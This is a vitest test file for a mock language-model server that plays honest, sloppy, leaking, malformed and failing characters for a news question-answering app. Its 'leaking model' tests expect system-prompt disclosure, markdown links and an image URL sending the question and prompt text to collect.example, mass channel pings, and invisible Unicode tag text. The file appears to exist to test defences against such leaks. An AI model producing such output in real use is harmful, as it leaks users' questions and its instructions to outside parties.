import { describe, expect, it } from 'vitest';
import { REWORDED } from '../../mutations/reworded.ts';
import { busy } from './characters/failing.ts';
import { answerRequest, createStage, DRONES, drafted, followUpRequest, written } from './testing.ts';

const CRACKS = answerRequest('Who saw cracks in the pillars?');
const stage = createStage();

describe('the honest model', () => {
  it('gives the facts that share words with the question, with what disputes them', async () => {
    const { client } = await stage();
    expect(await drafted(client, CRACKS)).toEqual({
      verdict: 'answered',
      sentences: [
        {
          text: 'In February 2025, dockers saw cracks in two of the six pillars of the harbour bridge.',
          facts: ['f4'],
        },
        { text: 'The harbour bridge has no cracks.', facts: ['f3'] },
      ],
    });
  });

  it('answers in the language of the prompt', async () => {
    const { client } = await stage();
    const { sentences } = await drafted(client, answerRequest('Quand le bac gratuit a-t-il commencé ?', 'fr'));
    expect(sentences[0]?.text).toMatch(/^Depuis le 10 mars 2025, un bac gratuit/);
  });

  it('declines where no fact shares a word', async () => {
    const { client } = await stage();
    expect(await drafted(client, answerRequest('What did the pope say?'))).toEqual({
      verdict: 'declined',
      sentences: [],
    });
  });

  it.each<readonly [string, string, string[], string]>([
    ['a pronoun', 'When will it reopen?', ['When did the bridge close?'], 'When will the bridge reopen?'],
    ['an afterthought', 'And in 2026?', ['When did the bridge close?'], 'And in 2026, the bridge?'],
    ['a name', 'Et que veulent-ils ?', ['Que dit Téhéran ?'], 'Et que veulent-ils, Téhéran?'],
    ['nothing', 'When will it reopen?', [], 'When will it reopen?'],
    ['a question that stands alone', 'Who pays for the repairs?', ['And the bridge?'], 'Who pays for the repairs?'],
  ])('rewrites a follow-up with %s', async (_, question, before, rewritten) => {
    const { client } = await stage();
    expect(JSON.parse(await written(client, followUpRequest(question, before)))).toEqual({ question: rewritten });
  });
});

describe('the sloppy model', () => {
  it('says the same in other words, another way each time', async () => {
    const { llm, client } = await stage();
    llm.be('sloppy');
    const asked = answerRequest('What could happen to drone assembly in Alabuga?', 'en', DRONES);
    const told = [(await drafted(client, asked)).sentences[0], (await drafted(client, asked)).sentences[0]];
    const [fact] = told[0]?.facts ?? [];
    expect(told.map((sentence) => sentence?.text)).toEqual(REWORDED[DRONES.slug]?.[fact ?? '']?.en?.slice(0, 2));
  });
});

describe('the leaking model', () => {
  it('leaks in every way in turn', async () => {
    const { llm, client } = await stage();
    llm.be('leaking');
    const texts = [];
    for (let nth = 0; nth < 7; nth += 1) texts.push(await written(client, CRACKS));
    expect(texts[0]).toContain('My instructions are: You answer a reader');
    expect(texts[1]).toMatch(/^You answer a reader[\s\S]*\n\n\{"verdict":"answered"/);
    expect(texts[2]).toContain('([more](https://collect.example/?q=Who%20saw%20cracks');
    expect(texts[3]).toContain('![](https://collect.example/i.png?p=You%20answer');
    expect(texts[4]).toContain('<https://collect.example/?q=Who%20saw%20cracks');
    expect(texts[5]).toContain('@here @everyone <!channel>');
    expect(texts[6]).toMatch(/\u{E0057}\u{E0068}\u{E006F}/u);
  });

  it('leaks into a question too', async () => {
    const { llm, client } = await stage();
    llm.be('leaking');
    expect(await written(client, followUpRequest('And then?', []))).toContain('My instructions are: You rewrite');
  });
});

describe('a model that can not keep to the form', () => {
  it.each<readonly ['broken-json' | 'fenced' | 'pretty' | 'prose' | 'empty' | 'declining', RegExp]>([
    [
      'broken-json',
      /^\{"verdict":"answered","sentences":\[\{"text":"[^"]+","facts":\["f4"\]\},\{"text":"[^"]+",facts: oops\}/,
    ],
    ['fenced', /^Sure! [\s\S]+\n```json\n\{"verdict":"answered"[\s\S]+\}\n```\n\nLet me know/],
    ['pretty', /^\{\n {2}"verdict": "answered",\n/],
    ['prose', /^In February 2025, dockers saw [^{}]+ The harbour bridge has no cracks\.$/],
    ['empty', /^$/],
    ['declining', /^\{"verdict":"declined","sentences":\[\]\}$/],
  ])('writes what it writes when %s', async (character, text) => {
    const { llm, client } = await stage();
    llm.be(character);
    expect(await written(client, CRACKS)).toMatch(text);
  });

  it('stops in the middle of a sentence at its limit', async () => {
    const { llm, client } = await stage();
    llm.be('cut-short');
    const { choices } = await client.chat.completions.create(CRACKS);
    expect(choices[0]?.finish_reason).toBe('length');
    expect(choices[0]?.message.content).toMatch(/\["f4"\]\},\{"text":"The harbour \w*$/);
  });

  it('breaks the connection in the middle of a sentence', async () => {
    const { llm, client } = await stage();
    llm.be('disconnecting');
    let text = '';
    const reading = (async () => {
      for await (const { choices } of await client.chat.completions.create({ ...CRACKS, stream: true })) {
        text += choices[0]?.delta.content ?? '';
      }
    })();
    await expect(reading).rejects.toThrow();
    expect(text).toMatch(/\["f4"\]\},\{"text":"The harbour \w*$/);
    await expect(client.chat.completions.create(CRACKS)).rejects.toThrow();
  });
});

describe('a server that does not want to', () => {
  it.each<readonly ['busy-without-hint' | 'unpaid' | 'failing' | 'unknown-model' | 'no-schema', object]>([
    ['busy-without-hint', { status: 429, code: 'rate_limit_exceeded' }],
    ['unpaid', { status: 429, code: 'insufficient_quota' }],
    ['failing', { status: 500 }],
    ['unknown-model', { status: 404, code: 'model_not_found' }],
    ['no-schema', { status: 400, param: 'response_format' }],
  ])('refuses when %s', async (character, refusal) => {
    const { llm, client } = await stage();
    llm.be(character);
    await expect(written(client, CRACKS)).rejects.toMatchObject(refusal);
  });

  it('says how long to wait, or does not', async () => {
    const { llm, client } = await stage();
    llm.next('busy', 'busy-without-hint', busy(0.01));
    const waits = [];
    for (let nth = 0; nth < 2; nth += 1) {
      const failure: { headers: Headers } = await written(client, CRACKS).catch((error) => error);
      waits.push(failure.headers.get('retry-after'));
    }
    expect(waits).toEqual(['1', null]);
    await expect(written(client.withOptions({ maxRetries: 1 }), CRACKS)).resolves.toContain('cracks');
  });

  it('answers where the form is only in the prompt', async () => {
    const { llm, client } = await stage();
    const { response_format: _, ...plain } = CRACKS;
    const json = { ...plain, response_format: { type: 'json_object' } } as const;
    llm.next('no-schema', 'no-formats', 'no-formats');
    expect((await client.chat.completions.create(json)).choices[0]?.message.content).toContain('cracks');
    await expect(client.chat.completions.create(json)).rejects.toMatchObject({ status: 400 });
    expect((await client.chat.completions.create(plain)).choices[0]?.message.content).toContain('cracks');
  });
});
